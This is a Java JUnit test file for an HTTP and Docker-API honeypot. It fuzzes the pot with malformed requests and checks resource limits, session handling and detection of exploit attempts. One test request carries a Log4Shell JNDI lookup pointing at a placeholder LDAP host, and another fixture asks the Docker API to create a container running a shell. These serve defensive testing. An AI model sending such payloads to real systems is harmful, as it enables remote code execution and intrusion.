package io.honeybee.pot.http;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.honeybee.pot.Observation;
import io.honeybee.pot.PotFixture;
import io.honeybee.pot.PotLimits;
import io.honeybee.pot.PotType;
import io.honeybee.pot.RawClient;
import io.honeybee.pot.docker.DockerPotType;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

/** Clients that break every rule; the pot goes on serving the others and logs no error. */
@SuppressWarnings("StringConcatToTextBlock") // Lines end as on the wire.
class HostileHttpClientTest {
  private static final String GOOD =
      "POST /wp-login.php?a=b%20c HTTP/1.1\r\nHost: h\r\nUser-Agent: x\r\n"
          + "Authorization: Basic YTpi\r\nContent-Type: multipart/form-data; boundary=zz\r\n"
          + "Transfer-Encoding: chunked\r\n\r\n1a\r\n--zz\r\nContent-Disposition: a\r\n0\r\n\r\n";
  private static final String DOCKER =
      "POST /v1.41/containers/create?name=x HTTP/1.1\r\nHost: h\r\nContent-Type: application/json"
          + "\r\nContent-Length: 49\r\n\r\n"
          + "{\"Image\":\"alpine\",\"Cmd\":[\"sh\"],\"HostConfig\":{\"x\":1}}";

  @TempDir Path directory;
  private final Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
  private final ListAppender<ILoggingEvent> log = new ListAppender<>();

  @BeforeEach
  void listen() {
    log.start();
    root.addAppender(log);
  }

  @AfterEach
  void nothingIsLoggedAtError() {
    root.detachAppender(log);
    assertThat(log.list).noneMatch(event -> event.getLevel().isGreaterOrEqual(Level.ERROR));
  }

  private static void assertServes(PotFixture pot) throws Exception {
    try (RawClient client = new RawClient(pot.port())) {
      client.send("GET / HTTP/1.0\r\n\r\n").awaitText("HTTP/1.").awaitEnd();
    }
  }

  private void attack(PotType type, Map<String, String> options, String good) throws Exception {
    Random random = new Random(7);
    try (PotFixture pot = PotFixture.start(type, directory, options)) {
      for (int i = 0; i < 150; i++) {
        StringBuilder bytes = new StringBuilder(good);
        for (int change = random.nextInt(1, 6); change > 0; change--) {
          int at = random.nextInt(bytes.length());
          switch (random.nextInt(4)) {
            case 0 -> bytes.setCharAt(at, (char) random.nextInt(256));
            case 1 -> bytes.deleteCharAt(at);
            case 2 -> bytes.insert(at, bytes.substring(at, Math.min(bytes.length(), at + 30)));
            default -> bytes.insert(at, "\u00ff\u0000\u001b[31m<script>".charAt(random.nextInt(9)));
          }
        }
        try (RawClient client = new RawClient(pot.port())) {
          client.send(bytes.toString());
        }
      }
      assertServes(pot);
      pot.await(type.name() + ".session.closed", 151);
      pot.awaitThat(() -> pot.pot().openSessions() == 0, "all sessions to end");
      assertThat(pot.seen()).allSatisfy(HostileHttpClientTest::isBounded);
    }
  }

  private static void isBounded(Observation event) {
    assertThat(event.data().toString().length()).isLessThan(120_000);
  }

  @ParameterizedTest
  @ValueSource(strings = {"nginx", "wordpress", "router", "elasticsearch"})
  void brokenRequestsEndTheirSessionAndNothingElse(String personality) throws Exception {
    attack(HttpPotType.http(), Map.of("personality", personality, "login", "any"), GOOD);
  }

  @Test
  void brokenRequestsToDockerDoTheSame() throws Exception {
    attack(new DockerPotType(), Map.of(), DOCKER);
  }

  @Test
  void longTextsAreCutInTheEvents() throws Exception {
    String junk = "\u00ff\u0001<\u001b".repeat(16_384);
    try (PotFixture pot =
        PotFixture.start(HttpPotType.http(), directory, Map.of("personality", "wordpress"))) {
      String body = "log=" + junk + "&pwd=" + junk;
      try (RawClient client = new RawClient(pot.port())) {
        client
            .send("POST /wp-login.php HTTP/1.0\r\nContent-Length: " + body.length() + "\r\n\r\n")
            .send(body)
            .awaitText("200 OK")
            .awaitEnd();
      }
      assertThat(pot.await("http.login.failed", 1).getFirst().data())
          .containsEntry("truncated", true)
          .containsEntry("username_bytes", 65_536);
      assertThat(pot.await("http.request", 1).getFirst().data())
          .containsEntry("body_size", (long) body.length())
          .containsEntry("truncated", true);
      assertThat(pot.seen()).allSatisfy(HostileHttpClientTest::isBounded);
    }
  }

  @Test
  void announcedLengthsCostNothing() throws Exception {
    try (PotFixture pot =
        PotFixture.start(HttpPotType.http(), directory, Map.of("personality", "apache"))) {
      for (int i = 0; i < 100; i++) {
        try (RawClient client = new RawClient(pot.port())) {
          client.send("PUT /x HTTP/1.1\r\nHost: h\r\nContent-Length: 1073741824\r\n\r\nabc");
        }
      }
      assertServes(pot);
      assertThat(pot.await("http.request", 100))
          .anySatisfy(o -> assertThat(o.data()).containsEntry("fault", "incomplete"));
    }
  }

  @Test
  void aBodyOfAnySizeEndsAtTheSessionsBytes() throws Exception {
    PotLimits few = new PotLimits(10, 10, Duration.ofMinutes(1), Duration.ofMinutes(1), 100_000);
    try (PotFixture pot = PotFixture.start(HttpPotType.http(), directory, few);
        RawClient client = new RawClient(pot.port())) {
      client.send("POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n");
      client.send(("4000\r\n" + "x".repeat(16_384) + "\r\n").repeat(20));
      client.awaitEnd();
      pot.await("http.session.closed", 1);
      assertThat(pot.seen("http.request").getFirst().data()).containsEntry("fault", "incomplete");
    }
  }

  @Test
  void slowClientsAreSentAwayAndOthersServed() throws Exception {
    PotLimits idle = new PotLimits(10, 10, Duration.ofMinutes(1), Duration.ofMillis(300), 1 << 20);
    try (PotFixture pot = PotFixture.start(HttpPotType.http(), directory, idle);
        RawClient slow = new RawClient(pot.port())) {
      slow.send("GET / HTTP/1.1\r\nHo");
      assertServes(pot);
      slow.awaitEnd();
      assertThat(slow.received()).isEmpty();
      assertThat(pot.await("http.request.broken", 1).getFirst().data())
          .containsEntry("fault", "timeout")
          .containsEntry("data", "GET / HTTP/1.1\r\nHo");
    }
  }

  @Test
  void whatIsRefusedForItsHeadersIsReportedWithThem() throws Exception {
    try (PotFixture pot =
        PotFixture.start(HttpPotType.http(), directory, Map.of("personality", "apache"))) {
      String get = "GET / HTTP/1.1\r\nHost: h\r\nX: ${jndi:ldap://192.0.2.1/a}";
      for (String end : new String[] {"\u001b\r\n\r\n", "a".repeat(20_000) + "\r\n\r\n"}) {
        try (RawClient client = new RawClient(pot.port())) {
          client.send(get + end).awaitText("400 Bad Request").awaitEnd();
        }
      }
      assertThat(pot.await("http.request", 2))
          .allSatisfy(
              request ->
                  assertThat(request.data())
                      .containsEntry("exploit", java.util.List.of("log4shell"))
                      .containsEntry("host", "h"));
    }
  }

  @Test
  void otherProtocolsAreKeptAsTheyCame() throws Exception {
    try (PotFixture pot = PotFixture.start(HttpPotType.http(), directory, Map.of());
        RawClient client = new RawClient(pot.port())) {
      client.send("\u0003\0\0\u0013\u000e\u00e0\0\0\n").awaitEnd();
      assertThat(client.received()).startsWith("HTTP/1.1 400 Bad Request");
      assertThat(pot.await("http.request.broken", 1).getFirst().data())
          .containsEntry("fault", "garbage")
          .containsKey("data_base64");
    }
  }
}
